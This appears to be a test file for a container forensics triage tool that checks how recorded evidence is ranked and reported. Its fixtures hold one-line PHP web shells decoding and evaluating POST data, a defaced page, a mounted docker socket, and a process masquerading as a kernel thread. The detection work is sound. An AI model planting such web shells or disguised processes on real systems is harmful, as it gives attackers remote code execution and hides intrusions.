/**
 * The triage pipeline is the same for every evidence source: here it runs whole
 * on a recorded container, with no engine, and produces the report every view reads.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { triage } from '../../src/app/triage.js';
import { verifyCase } from '../../src/bundle/verify-case.js';
import type { TriageReport } from '../../src/report/triage-report.js';
import { RecordedSource } from '../support/recorded-source.js';
import { toVersion } from '../../src/case/stored-version.js';
import type { ProcessRecord } from '../../src/report/process.js';

function process(p: Partial<ProcessRecord> & { pid: number; ppid: number }): ProcessRecord {
  return {
    name: 'x',
    commandLine: ['x'],
    uid: 0,
    gid: 0,
    exe: { path: '/usr/bin/sleep', isDeleted: false, image: 'same' },
    isFromExec: false,
    loaderEnv: [],
    mappedFiles: [],
    deletedOpenFiles: [],
    sockets: [],
    findings: [],
    ...p,
  };
}

let work: string;
let source: RecordedSource;
let report: TriageReport;

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'coroner-pipeline-'));
  source = new RecordedSource({
    id: 'f'.repeat(64),
    name: 'web-1',
    runtime: {
      mounts: [
        {
          type: 'bind',
          source: '/var/run/docker.sock',
          destination: '/var/run/docker.sock',
          isWritable: true,
        },
      ],
    },
    changes: [
      { path: '/var', kind: 'C' },
      { path: '/var/www', kind: 'C' },
      { path: '/var/www/index.html', kind: 'C' },
      { path: '/var/www/uploads', kind: 'C' },
      { path: '/var/www/uploads/.x.php', kind: 'A' },
      { path: '/run/httpd.pid', kind: 'A' },
      { path: 'relative/nonsense', kind: 'A' },
    ],
    original: {
      '/var': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www/uploads': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www/index.html': { meta: {}, content: '<h1>Welcome</h1>\n' },
    },
    current: {
      '/var': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www/uploads': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www/index.html': { meta: {}, content: '<h1>HACKED</h1>\n' },
      '/var/www/uploads/.x.php': {
        meta: {},
        content: '<?php eval(base64_decode($_POST["p"])); ?>\n',
      },
      '/run/httpd.pid': { meta: {}, content: '7\n' },
    },
  });
  report = await triage(source, 'web-1', {
    caseDir: path.join(work, 'case'),
    cacheDir: path.join(work, 'cache'),
  });
});
afterAll(() => rm(work, { recursive: true, force: true }));

/** The case folder verifies, and its report.json is the report the triage returned. */
async function expectCaseFolderIsTheReport(report: TriageReport): Promise<void> {
  const onDisk = JSON.parse(
    await readFile(path.join(report.caseDir, 'report.json'), 'utf8'),
  ) as TriageReport;
  expect([...onDisk.changes].map((c) => c.path)).toEqual([...report.changes].map((c) => c.path));
  expect(onDisk.schemaVersion).toBe(2);
  const check = await verifyCase(report.caseDir);
  expect(check).toMatchObject({ state: 'complete', isIntact: true });
}

describe('the pipeline on a recorded source', () => {
  it('asks the source for each thing once, in order', () => {
    expect(source.calls).toEqual([
      'acquire',
      'changeList',
      'originalLayers',
      'readVersions',
      'mountChanges',
    ]);
  });

  it('ranks the web shell first and the pid file last, parents apart', () => {
    const ranked = [...report.changes]
      .filter((c) => !c.isParentOnly)
      .map((c) => [c.path, c.severity]);
    expect(ranked).toEqual([
      ['/var/www/uploads/.x.php', 'critical'],
      ['/var/www/index.html', 'high'],
      ['/run/httpd.pid', 'low'],
    ]);
    expect(report.counts).toMatchObject({ added: 2, changed: 1, parentOnly: 3 });
  });

  it('diffs the defaced page from the stored versions', () => {
    const page = [...report.changes].find((c) => c.path === '/var/www/index.html')!;
    expect(page.comparison?.content).toMatchObject({
      kind: 'text-diff',
      addedLines: 1,
      removedLines: 1,
    });
  });

  it('judges the recorded runtime configuration and calls the host compromised for a mounted engine socket', () => {
    expect(report.hostCompromise.isSuspected).toBe(true);
    expect(report.exposure.find((e) => e.cis === '5.32')?.passed).toBe(false);
    expect(report.notCovered.map((m) => m.destination)).toEqual([
      '/var/run/docker.sock',
      '/dev/shm',
    ]);
  });

  it('names a path no source should give as a problem, and what the source could not collect', () => {
    expect(report.problems).toEqual([
      expect.objectContaining({ path: 'relative/nonsense', action: 'read change list' }),
    ]);
    expect(report.notCollected).toEqual([{ item: 'processes', reason: 'a recording has none' }]);
  });

  it('writes a case folder that verifies, whose report.json is the returned report', async () => {
    await expectCaseFolderIsTheReport(report);
  });
});

describe('the pipeline with mounts, processes and events', () => {
  let report: TriageReport;
  beforeAll(async () => {
    const shell = '<?php @eval(base64_decode($_POST["x"])); ?>\n';
    const mounted = new RecordedSource({
      id: 'e'.repeat(64),
      name: 'wp-1',
      runtime: {
        mounts: [
          {
            type: 'volume',
            source: '/v/_data',
            destination: '/var/www/html',
            name: 'html',
            isWritable: true,
          },
        ],
        exposedPorts: ['80/tcp'],
        healthcheck: ['CMD-SHELL', 'curl -f http://127.0.0.1/'],
      },
      changes: [{ path: '/run/apache2.pid', kind: 'A' }],
      current: { '/run/apache2.pid': { meta: {}, content: '1\n' } },
      processes: [
        process({
          pid: 10,
          ppid: 1,
          exe: { path: '/usr/sbin/apache2', isDeleted: false, image: 'same' },
          sockets: [{ protocol: 'tcp', state: 'listen', local: '0.0.0.0:80' }],
        }),
        process({
          pid: 11,
          ppid: 10,
          exe: { path: '/tmp/.x/kd', isDeleted: true, image: 'absent' },
          sockets: [{ protocol: 'tcp', state: 'listen', local: '0.0.0.0:4444' }],
        }),
        process({
          pid: 20,
          ppid: 5,
          isFromExec: true,
          commandLine: ['/bin/sh', '-c', 'curl -f http://127.0.0.1/'],
        }),
        process({
          pid: 21,
          ppid: 20,
          isFromExec: true,
          commandLine: ['curl', '-f', 'http://127.0.0.1/'],
        }),
        process({ pid: 30, ppid: 6, isFromExec: true, commandLine: ['[kworker/0:1]', '86400'] }),
      ],
      events: [
        { time: 't1', action: 'exec_create: /bin/sh -c curl -f http://127.0.0.1/', attributes: {} },
        {
          time: 't2',
          action: 'exec_create: bash -c exec -a [kworker/0:1] sleep 86400',
          attributes: {},
        },
      ],
    });
    // The volume's web shell, stored as a source stores what it reads from a mount.
    const acquire = mounted.acquire.bind(mounted);
    mounted.acquire = async (container, folder, custody, opts) => {
      const acquired = await acquire(container, folder, custody, opts);
      const record = await folder.writeBuffer('current/shell', Buffer.from(shell), 'shell', false);
      return {
        ...acquired,
        mountChanges: async () => ({
          changes: [
            {
              entry: { path: '/var/www/html/wp-content/.cache.php', kind: 'A' as const },
              mount: { type: 'volume', destination: '/var/www/html', name: 'html' },
              versions: {
                current: toVersion(
                  { type: 'file', mode: 0o644, uid: 33, gid: 33, sizeBytes: shell.length },
                  record,
                ),
              },
            },
          ],
          read: [{ type: 'volume', destination: '/var/www/html', name: 'html' }],
        }),
      };
    };
    report = await triage(mounted, 'wp-1', {
      caseDir: path.join(work, 'case-mounted'),
      cacheDir: path.join(work, 'cache'),
    });
  });

  it('ranks a web shell in a volume like one in the layer, saying where it lives', () => {
    const shell = [...report.changes].find(
      (c) => c.path === '/var/www/html/wp-content/.cache.php',
    )!;
    expect(shell).toMatchObject({
      kind: 'A',
      severity: 'critical',
      mount: { type: 'volume', name: 'html' },
    });
    expect(shell.findings[0]!.reason).toMatch(/\(in the volume html at \/var\/www\/html\)$/);
    expect(report.mounts).toEqual([{ type: 'volume', destination: '/var/www/html', name: 'html' }]);
    expect(report.notCovered.map((m) => m.destination)).toEqual(['/dev/shm']);
  });

  it("ranks processes by their own rules, leaving the engine's healthcheck alone", () => {
    const rules = (pid: number) =>
      report
        .processes!.find((p) => p.pid === pid)!
        .findings.map((f) => f.rule)
        .sort();
    expect(rules(10)).toEqual([]);
    expect(rules(11)).toEqual([
      'process-deleted-executable',
      'process-executable-in-temp',
      'process-undeclared-listener',
    ]);
    expect(rules(20)).toEqual([]);
    expect(rules(21)).toEqual([]);
    expect(rules(30)).toEqual(['process-from-exec', 'process-kernel-thread-name']);
  });

  it("names the docker exec the engine recorded, not the healthcheck's", () => {
    const exec = report.findings.filter((f) => f.rule === 'engine-exec');
    expect(exec).toHaveLength(1);
    expect(exec[0]!.reason).toMatch(/exec -a \[kworker\/0:1\] sleep 86400/);
  });

  it('writes a case folder that verifies, whose report.json is the returned report', async () => {
    await expectCaseFolderIsTheReport(report);
  });
});
